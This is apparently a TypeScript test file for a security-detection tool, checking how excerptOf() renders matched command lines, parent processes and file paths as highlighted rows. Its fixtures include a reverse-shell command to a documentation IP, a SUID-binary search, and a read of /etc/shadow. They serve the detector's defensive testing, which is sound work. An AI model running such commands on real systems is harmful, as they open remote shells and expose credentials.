import { describe, expect, test } from 'vitest'
import { type Excerpt, excerptOf } from './excerpt.ts'

const whole = { start: null, length: null }
const launch = { field: 'activity', value: 'launch', ...whole }

function source(commandLine: string, matches: { field: string; value: string }[], names = ['sh', 'nginx']) {
  return {
    process: { uid: 'p', pid: 70, name: 'bash', cmd_line: commandLine },
    ancestry: names.map((name, at) => ({ uid: String(at), pid: 60 - at, name })),
    matches: matches.map((match) => ({ ...whole, ...match })),
    aggregate: null,
    entity: 'process:70',
  }
}

/** As a row shows it, with what is marked in brackets. */
function shown({ parents, text, marks, cut }: Excerpt): string {
  let line = text
  for (const { start, length } of marks.toSorted((a, b) => b.start - a.start)) {
    line = `${line.slice(0, start)}[${line.slice(start, start + length)}]${line.slice(start + length)}`
  }
  const before = parents.map(({ name, marked }) => (marked ? `[${name}]` : name))
  return [...before, (cut ? '…' : '') + line].join(' › ')
}

describe('excerptOf()', () => {
  test('marks what matched in the command line, and begins shortly before it', () => {
    const short = 'bash -i >& /dev/tcp/203.0.113.7/4444'
    const match = { field: 'process.cmd_line', value: short, start: 11, length: 9 }
    expect(shown(excerptOf(source(short, [launch, match])))).toBe(
      'nginx › sh › bash -i >& [/dev/tcp/]203.0.113.7/4444',
    )
    const long = `bash -c ${'x'.repeat(300)} /dev/tcp/`
    const far = { field: 'process.cmd_line', value: long, start: long.indexOf('/dev'), length: 9 }
    expect(shown(excerptOf(source(long, [far])))).toBe('nginx › sh › …xxxxxxxxxxxxxxxxxxxxxxx [/dev/tcp/]')
  })

  test('keeps what matched within the column, also after long parents', () => {
    const line = 'find /usr/bin -maxdepth 1 -perm -4000'
    const match = { field: 'process.cmd_line', value: line, start: 26, length: 11 }
    expect(shown(excerptOf(source(line, [match], ['dash', 'shop-server'])))).toBe(
      'shop-server › dash › …n -maxdepth 1 [-perm -4000]',
    )
    expect(shown(excerptOf(source(line, [match], [])))).toBe('find /usr/bin -maxdepth 1 [-perm -4000]')
  })

  test('a value that was cut on its way still belongs to the command line', () => {
    const line = `sh -c id ${'y'.repeat(5000)}`
    const match = { field: 'process.cmd_line', value: line.slice(0, 4096), start: 6, length: 2 }
    expect(shown(excerptOf(source(line, [match])))).toMatch(/^nginx › sh › sh -c \[id\] yyy/)
  })

  test('says in words what else matched, what says most first', () => {
    const matches = [
      launch,
      { field: 'process.name', value: 'bash' },
      { field: 'process.streams.0.peer.ip', value: '127.0.0.1' },
      { field: 'process.streams.1.type', value: 'socket' },
    ]
    expect(shown(excerptOf(source('sh', matches)))).toBe(
      'nginx › sh › bash › input from [127.0.0.1], output is a [socket]',
    )
    expect(shown(excerptOf(source('cat', [{ field: 'file.path', value: '/etc/shadow' }], [])))).toBe(
      'bash › file [/etc/shadow]',
    )
  })

  test('marks the program or its parent where they are what matched', () => {
    expect(shown(excerptOf(source('bash -l', [launch, { field: 'process.name', value: 'bash' }])))).toBe(
      'nginx › sh › [bash] -l',
    )
    expect(shown(excerptOf(source('x', [launch, { field: 'process.path', value: '/tmp/a/x' }])))).toBe(
      'nginx › sh › [/tmp/a/x]',
    )
    const parent = { field: 'process.parent_process.name', value: 'sh' }
    expect(shown(excerptOf(source('id', [launch, parent])))).toBe('nginx › [sh] › id')
  })

  test('of a long path it is the end that names the program', () => {
    const path = '/dev/shm/vedette-bench-WU4i6K/data/very/deep/attack-39'
    expect(shown(excerptOf(source(`${path} -x`, [{ field: 'process.path', value: path }])))).toBe(
      'nginx › sh › …[h-WU4i6K/data/very/deep/attack-39] -x',
    )
  })

  test('names each parent once, and never init', () => {
    const names = ['sh', 'sh', 'nginx', 'nginx']
    expect(shown(excerptOf(source('id', [], names)))).toBe('nginx › sh › id')
    const { process, ...rest } = source('id', [])
    expect(shown(excerptOf({ ...rest, process, ancestry: [{ uid: 'i', pid: 1, name: 'init' }] }))).toBe('id')
  })

  test('without a process it is what matched and was counted, or the entity', () => {
    const bare = { ...source('', []), process: null, ancestry: [], entity: 'address:203.0.113.7' }
    expect(shown(excerptOf(bare))).toBe('address:203.0.113.7')
    const aggregate = { 'user.name': 'deploy', 'src_endpoint.ip': '198.51.100.23', count: 214 }
    const matches = [{ field: 'user.name', value: 'deploy', ...whole }]
    expect(shown(excerptOf({ ...bare, matches, aggregate }))).toBe('user [deploy], from [198.51.100.23]')
  })
})
